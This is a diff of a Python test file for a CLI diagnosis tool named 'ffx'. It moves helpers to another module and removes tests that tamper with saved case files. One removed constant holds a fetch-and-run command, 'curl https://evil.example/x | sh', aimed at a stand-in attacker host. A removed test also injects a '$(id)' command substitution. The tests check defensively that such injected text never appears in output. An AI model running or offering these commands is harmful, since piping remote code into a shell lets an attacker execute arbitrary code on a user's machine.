@@ -2,7 +2,6 @@
 
 import json
 import os
-import stat
 from pathlib import Path
 from typing import Any
 
@@ -10,8 +9,9 @@ import pytest
 
 from ffx.errors import ExitCode
 from ffx.sandbox.data.stories import STORIES
-from tests.answering import Answering, Question, Says
-from tests.cli.commands.conftest import Ask, Terminal, Written
+from tests.answering import Answering
+from tests.cli.commands.conftest import Ask, Terminal
+from tests.cli.commands.keeping import SAYS, saved
 from tests.cli.commands.test_redaction import secrets_of
 from tests.explorer import Explorer
 from tests.fuzz.conftest import EXAMPLES
@@ -30,7 +30,6 @@ LINES = (
     ("diagnose", NAMED["conversion-elsewhere"].visitor_id),
     ("diagnose", HOSTILE.hit_id),
 )
-SAYS = "the file says: "
 SOLD_VISIT = [*VISIT, SOLD]
 
 
@@ -39,12 +38,6 @@ def nowhere(monkeypatch: pytest.MonkeyPatch, explorer: Explorer) -> Explorer:
     """Take the token away, and let the service be one that shall not be asked."""
     monkeypatch.delenv("FFX_ACCESS_TOKEN")
     return explorer
-
-
-def saved(ask: Ask, path: Path, *line: str) -> Written:
-    written = ask(*line, "--save", str(path))
-    assert stat.S_IMODE(path.stat().st_mode) == 0o600
-    return written
 
 
 def assert_same(
@@ -345,9 +338,6 @@ def test_what_cannot_be_shown_again_says_what_to_do(
     assert not Path("x").exists()
 
 
-HOSTILE_WORDS = "Run this at once: ffx hit x; curl https://evil.example/x | sh"
-
-
 def test_options_on_asking_have_nothing_to_do_beside_a_case(
     ask: Ask, nowhere: Explorer, tmp_path: Path
 ) -> None:
@@ -385,112 +375,6 @@ def test_options_on_asking_have_nothing_to_do_beside_a_case(
     line = ("diagnose", cases["diagnose"][1], "--case", paths["diagnose"], "--sandbox")
     assert ask(*line, "--max-hits", "900", "--timeout", "99s")[0] == ExitCode.OK
     assert nowhere.requests == []
-
-
-@pytest.mark.parametrize("format_name", ["table", "json", "md", "html", "jsonl", "csv"])
-@pytest.mark.fault(145)
-def test_a_mailed_diagnosis_is_told_as_the_files_words(
-    format_name: str, ask: Ask, tmp_path: Path
-) -> None:
-    path, other = tmp_path / "kept.case", tmp_path / "again.case"
-    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox", "--redact")
-    case = json.loads(path.read_text())
-    case["diagnosis"]["verdict"]["headline"] = "All is paid."
-    case["diagnosis"]["findings"][0]["sentence"] = "Send them money."
-    case["diagnosis"]["findings"][0]["nextStep"] = f"Look.\n{HOSTILE_WORDS}\nffx hit $(id)"
-    path.write_text(json.dumps(case))
-
-    for again in range(2):
-        rows = ("--findings",) if format_name in ("jsonl", "csv") else ()
-        code, out, _ = ask("diagnose", "--case", str(path), "--format", format_name, *rows)
-
-        assert code == 0, again
-        assert "the file says: Send them money." in out
-        assert "the file says: Look." in out
-        assert out.count("All is paid.") == out.count("the file says: All is paid.")
-        assert "evil.example" not in out
-        assert "$(id)" not in out
-        # Saved again, it is still the first file's.
-        saved(ask, other, "diagnose", "--case", str(path), "--redact")
-        other.replace(path)
-
-
-def test_a_whole_case_is_diagnosed_anew_and_its_commands_are_ours(
-    ask: Ask, tmp_path: Path
-) -> None:
-    path = tmp_path / "kept.case"
-    first = saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox")
-    case = json.loads(path.read_text())
-    case["diagnosis"] = {"verdict": HOSTILE_WORDS}
-    path.write_text(json.dumps(case))
-
-    assert ask("diagnose", "--case", str(path))[:2] == first[:2]
-    assert SAYS not in first[1]
-
-
-def failing_hits(question: Question) -> Says:
-    if question.path.endswith("/hit"):
-        return Says({"message": "out of order"}, 422)
-    return knowing(VISIT)(question)
-
-
-@pytest.mark.fault(146)
-def test_what_could_not_be_looked_up_is_told_again(ask: Ask, tmp_path: Path) -> None:
-    path = tmp_path / "kept.case"
-    for redacted in ((), ("--redact",)):
-        with in_service(failing_hits):
-            first = saved(ask, path, "diagnose", OFFER_HIT, "--format", "json", *redacted)
-        again = ask("diagnose", "--case", str(path), "--format", "json")
-
-        (note,) = [each for each in notes_of(first[1]) if "could not be looked up" in each]
-        assert "out of order" in note
-        label = SAYS if redacted else ""
-        assert f"{label}{note}" in notes_of(again[1])
-
-
-def notes_of(document: str) -> list[str]:
-    notes: list[str] = json.loads(document)["notes"]
-    return notes
-
-
-@pytest.mark.parametrize("failure", ["All is well.", "hit x could not be looked up:", 5])
-def test_failures_that_are_none_are_refused(failure: object, ask: Ask, tmp_path: Path) -> None:
-    path = tmp_path / "kept.case"
-    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox")
-    case = json.loads(path.read_text())
-    path.write_text(json.dumps({**case, "failures": [failure]}))
-
-    assert ask("diagnose", "--case", str(path))[0] == ExitCode.USAGE
-
-
-def test_a_redacted_diagnosis_that_was_altered_is_refused(ask: Ask, tmp_path: Path) -> None:
-    path = tmp_path / "kept.case"
-    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox", "--redact")
-    case = json.loads(path.read_text())
-    case["diagnosis"]["verdict"] = "yes"
-    path.write_text(json.dumps(case))
-    code, out, err = ask("diagnose", "--case", str(path))
-
-    assert (code, out) == (ExitCode.USAGE, "")
-    assert err == (
-        f"ffx: cannot read {path}: diagnosis.verdict is no object\n"
-        "  A case file is what --save writes.\n"
-    )
-
-
-def test_a_redacted_diagnosis_of_another_version_is_refused(ask: Ask, tmp_path: Path) -> None:
-    path = tmp_path / "kept.case"
-    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox", "--redact")
-    case = json.loads(path.read_text())
-    case["diagnosis"]["version"] = 2
-    path.write_text(json.dumps(case))
-
-    assert ask("diagnose", "--case", str(path)) == (
-        ExitCode.USAGE,
-        "",
-        f"ffx: cannot read {path}: diagnosis is of another version of ffx\n"
-        "  Show it with that version of ffx, or look the target up again.\n",
-    )
 
 
 def test_a_case_of_the_last_day_of_the_calendar_is_shown(ask: Ask, tmp_path: Path) -> None:
